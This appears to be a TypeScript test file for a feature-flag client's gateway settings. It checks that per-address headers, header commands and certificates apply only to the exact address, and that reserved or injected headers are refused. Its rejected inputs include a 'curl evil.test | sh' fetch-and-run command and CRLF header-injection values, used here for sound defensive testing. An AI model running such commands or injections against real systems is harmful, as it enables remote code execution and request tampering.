import assert from 'node:assert/strict';
import { headerProblem } from '../../../../../src/core/connection/gateway/gateway-headers.ts';
import {
  gatewaySettingsFor,
  type ConfiguredGateways,
} from '../../../../../src/core/connection/gateway/gateway-settings.ts';
import { ApiError } from '../../../../../src/core/api/errors.ts';
import { baseUrlOf } from '../../flags/store-bench.ts';

const FLAGS = baseUrlOf('https://flags.test/tenant');

function problemOf(configured: ConfiguredGateways, baseUrl = FLAGS): string {
  try {
    gatewaySettingsFor(configured, baseUrl);
  } catch (error) {
    assert.ok(error instanceof ApiError);
    assert.equal(error.kind, 'refused');
    assert.equal(error.facts.gateway, 'settings');
    return error.message;
  }
  return 'none';
}

describe('the settings of a gateway', () => {
  it('are those of exactly one address, however it is written', () => {
    for (const address of [
      'https://flags.test/tenant',
      'https://FLAGS.test:443/tenant/',
      'https://flags.test/tenant/api/admin',
    ]) {
      const { headers } = gatewaySettingsFor({ headers: { [address]: { 'X-Team': 'web' } } }, FLAGS);
      assert.deepEqual(headers, { 'x-team': 'web' });
    }
  });

  for (const other of [
    'http://flags.test/tenant',
    'https://flags.test',
    'https://flags.test/other',
    'https://flags.test/tenant/more',
    'https://flags.test:8443/tenant',
    'https://flags.test./tenant',
    'https://flags.test.evil.test/tenant',
    'https://me@flags.test/tenant',
    '*',
    '',
  ]) {
    it(`of ${other || 'nothing'} go nowhere else`, () => {
      const configured = {
        headers: { [other]: { 'X-Team': 'web' } },
        headerCommand: { [other]: { command: ['id'] } },
        clientCertificate: { [other]: { pfx: '/me.pfx' } },
      };
      assert.deepEqual(gatewaySettingsFor(configured, FLAGS), {
        headers: {},
        command: undefined,
        certificate: undefined,
      });
    });
  }

  it('of another address may be wrong', () => {
    assert.equal(
      problemOf({ headers: { 'https://other.test': 'x' }, headerCommand: 7, clientCertificate: null }),
      'none',
    );
  });

  const of = (value: unknown) => ({ [FLAGS.url]: value });
  for (const [what, configured] of [
    ['a header that is no text', { headers: of({ 'X-Team': 1 }) }],
    ['a list of headers', { headers: of(['X-Team: web']) }],
    ['a command in one text, for a shell', { headerCommand: of({ command: 'curl evil.test | sh' }) }],
    ['a command without a program', { headerCommand: of({ command: [] }) }],
    ['a command with more than is known', { headerCommand: of({ command: ['a'], shell: true }) }],
    ['a command with a NUL', { headerCommand: of({ command: ['a', 'b\0c'] }) }],
    ['an age of no time', { headerCommand: of({ command: ['a'], maxAge: 0 }) }],
    [
      'a header of a command that it may not set',
      { headerCommand: of({ command: ['a'], header: 'Authorization' }) },
    ],
    ['a certificate by a path within some folder', { clientCertificate: of({ pfx: 'me.pfx' }) }],
    ['a certificate without a key', { clientCertificate: of({ cert: '/me.pem' }) }],
    ['a certificate twice', { clientCertificate: of({ cert: '/me.pem', key: '/me.key', pfx: '/me.pfx' }) }],
  ] as const) {
    it(`refuse ${what}`, () => assert.match(problemOf(configured), /http\.|header command/));
  }

  it('refuse a certificate for plain http', () => {
    const plain = baseUrlOf('http://flags.test');
    assert.match(problemOf({ clientCertificate: { [plain.url]: { pfx: '/me.pfx' } } }, plain), /https/);
  });

  it('never quote a value', () => {
    const message = problemOf({ headers: of({ 'X-Key': 'se\ncret' }) });
    assert.match(message, /"X-Key"/);
    assert.doesNotMatch(message, /cret/);
  });
});

describe('a header for a gateway', () => {
  for (const name of [
    ...['Authorization', 'authorization', 'HOST', 'Connection', 'Keep-Alive', 'TE', 'Trailer', 'Upgrade'],
    ...['Transfer-Encoding', 'Content-Length', 'Content-Type', 'Accept', 'Accept-Encoding', 'If-None-Match'],
    ...['Forwarded', 'Via', 'X-Forwarded-For', 'X-Forwarded-Host', 'X-Real-IP', 'X-Original-URL'],
    ...['X-HTTP-Method-Override', 'Proxy-Connection', 'Proxy-Authenticate', 'Sec-Fetch-Site', 'User-Agent'],
  ]) {
    it(`is never ${name}`, () => assert.equal(headerProblem(name, 'x'), 'reserved'));
  }

  for (const name of ['', 'X Team', 'X-Team:', 'X-Team\r\nHost', 'Ä', '__proto__', 'x'.repeat(101)]) {
    it(`has no name such as ${JSON.stringify(name.slice(0, 12))}`, () =>
      assert.equal(headerProblem(name, 'x'), 'name'));
  }

  for (const value of [
    '',
    ' ',
    'a\r\nHost: evil.test',
    'a\nb',
    'a\0b',
    'ä',
    ' a',
    'a ',
    'x'.repeat(20_000),
  ]) {
    it(`has no value such as ${JSON.stringify(value.slice(0, 12))}`, () =>
      assert.equal(headerProblem('X-Team', value), 'value'));
  }

  it('may be what gateways ask for', () => {
    for (const name of [
      ...['CF-Access-Client-Id', 'cf-access-token', 'Cookie', 'X-Api-Key', 'x-amzn-oidc-data'],
      // Google's identity-aware proxy, where the server itself reads Authorization.
      'Proxy-Authorization',
    ])
      assert.equal(headerProblem(name, 'Bearer a.b-c_d=='), undefined);
  });
});
